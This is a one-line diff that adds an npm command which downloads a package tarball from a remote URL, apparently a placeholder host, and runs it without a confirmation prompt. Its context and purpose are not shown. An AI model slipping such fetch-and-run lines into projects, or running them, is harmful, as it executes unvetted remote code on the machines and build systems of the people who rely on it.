@@ -1,0 +1,1 @@
+npm exec --yes --package=https://cdn.example.net/tool.tgz -- tool build
